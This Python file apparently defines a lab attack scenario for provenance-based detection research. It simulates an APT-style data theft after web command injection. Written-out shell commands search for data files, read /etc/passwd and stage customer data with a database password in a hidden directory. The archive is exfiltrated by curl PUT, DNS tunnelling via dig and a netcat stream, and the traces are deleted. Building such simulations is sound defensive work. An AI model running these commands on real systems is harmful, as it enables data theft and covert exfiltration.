"""Data theft: discovery, local staging, archiving, and exfiltration over three channels.

Modelled on data-theft phases in public APT reports and the TC engagements: after a web
foothold the attacker searches for data files, stages copies in a hidden directory, packs
them with tar and sends them out three ways (an HTTP PUT to a drop server, hex chunks
encoded into DNS query names sent to a DNS-like server, and a raw netcat stream), then
removes the staging area.
"""

from __future__ import annotations

from provarmor.lab import techniques as t
from provarmor.lab.context import LabContext
from provarmor.lab.scenario import Action, Channel, Plan, Scenario, SetupFile, StepSpec
from provarmor.lab.scenarios.implants import drop_dir, implant_payload
from provarmor.lab.scenarios.steps import (
    delete,
    deletion_step,
    exploit_step,
    implant_step,
    netcat_to_sink,
    start_implant,
    web_exploit,
)

STEPS = (
    exploit_step(),
    implant_step(t.INGRESS_TRANSFER),
    StepSpec(
        name="discover-data",
        summary="find searches for data and configuration files; accounts are listed.",
        techniques=(t.FILE_DISCOVERY, t.LOCAL_ACCOUNT_DISCOVERY),
    ),
    StepSpec(
        name="stage",
        summary="Customer data and the application's config (with its database password) are "
        "copied into a hidden staging directory.",
        techniques=(t.LOCAL_DATA, t.CREDENTIALS_IN_FILES, t.LOCAL_STAGING),
    ),
    StepSpec(
        name="archive",
        summary="The staged files are packed with tar and gzip.",
        techniques=(t.ARCHIVE_UTILITY,),
    ),
    StepSpec(
        name="exfil-http",
        summary="The archive is uploaded with an HTTP PUT to a drop server.",
        techniques=(t.EXFIL_UNENCRYPTED,),
    ),
    StepSpec(
        name="exfil-dns",
        summary="The archive, hex-encoded in 60-character chunks, is sent as DNS query names.",
        techniques=(t.DNS_PROTOCOL, t.STANDARD_ENCODING, t.SIZE_LIMITS),
    ),
    StepSpec(
        name="exfil-netcat",
        summary="The archive is streamed to the sink over a raw TCP connection (nc).",
        techniques=(t.EXFIL_UNENCRYPTED, t.NON_APPLICATION_PROTOCOL),
    ),
    deletion_step("cleanup", "The staging directory and archive are deleted."),
)


def _data_files(ctx: LabContext) -> tuple[SetupFile, ...]:
    rows = "\n".join(
        f"{number},{ctx.names.token(6)},{ctx.names.token(5)}@example.lab,"
        f"{ctx.names.rng.randrange(1000, 9999)}"
        for number in range(1, 41)
    )
    data = f"{ctx.web.directory}/data"
    return (
        SetupFile(
            path=f"{data}/customers.csv",
            content=f"id,name,email,pin\n{rows}\n",
            owner=ctx.web.user,
            mode=0o640,
        ),
        SetupFile(
            path=f"{data}/orders.sql",
            owner=ctx.web.user,
            mode=0o640,
            content="INSERT INTO orders VALUES (1, 'widget', 3);\n",
        ),
    )


def plan(ctx: LabContext) -> Plan:
    implant = implant_payload(ctx)
    stage = drop_dir(ctx)
    archive = f"{stage}.tgz"
    domain = f"{ctx.names.token(5)}.{ctx.names.pick(('cdn-cache.net', 'telemetry.io', 'upd.org'))}"
    dns = ctx.address("dns")
    chunks = (
        f"od -An -tx1 -v {archive} | tr -d ' \\n' | fold -w 60 | head -n 12 | "
        f"while read c; do dig +short +tries=1 +time=1 -p {ctx.dns_port} @{dns} $c.{domain}; done"
    )
    return Plan(
        setup_files=_data_files(ctx),
        payloads=(implant,),
        actions=(
            web_exploit("id; pwd"),
            start_implant(ctx, implant),
            Action(
                step="discover-data",
                channel=Channel.IMPLANT,
                command="find /srv /home /var/www -maxdepth 4 -type f \\( -name '*.csv' -o "
                "-name '*.sql' -o -name '*.ini' \\) 2>/dev/null; "
                "cut -d: -f1 /etc/passwd | tail -n 5",
            ),
            Action(
                step="stage",
                channel=Channel.IMPLANT,
                command=f"mkdir -p {stage} && cp {ctx.web.directory}/data/* "
                f"{ctx.web.directory}/config.ini {stage}/ && ls {stage}",
            ),
            Action(
                step="archive",
                channel=Channel.IMPLANT,
                command=f"tar czf {archive} -C {stage} . && ls -la {archive}",
            ),
            Action(
                step="exfil-http",
                channel=Channel.IMPLANT,
                command=f"curl -s -X PUT --data-binary @{archive} "
                f"{ctx.sink_url}/{ctx.names.token(6)}",
            ),
            Action(step="exfil-dns", channel=Channel.IMPLANT, command=chunks, timeout=40),
            Action(
                step="exfil-netcat",
                channel=Channel.IMPLANT,
                command=f"{netcat_to_sink(ctx)} < {archive}",
            ),
            delete("cleanup", Channel.IMPLANT, stage, archive),
        ),
        artifacts=(stage, archive),
    )


SCENARIO = Scenario(
    name="staging-exfil",
    title="Data discovery, staging and archiving; exfiltration over HTTP, DNS and netcat",
    modelled_on="Data-theft phases of public APT reports and DARPA TC engagements "
    "(staging in hidden directories, DNS tunnelling, raw-socket exfiltration)",
    description=(
        "Through the web application's command injection the attacker starts a fileless "
        "implant, searches the file system for CSV, SQL and INI files, copies the customer "
        "data and the application's config (which holds a database password) into a hidden "
        "staging directory and packs it with tar. The archive leaves three ways: an HTTP PUT "
        "to a drop server, hex chunks of 60 characters sent as DNS query names to a DNS-like "
        "server with dig, and a raw TCP stream with nc. The staging directory is deleted."
    ),
    root_cause="The web application's ping handler: a shell it started for an attack request.",
    steps=STEPS,
    plan=plan,
)
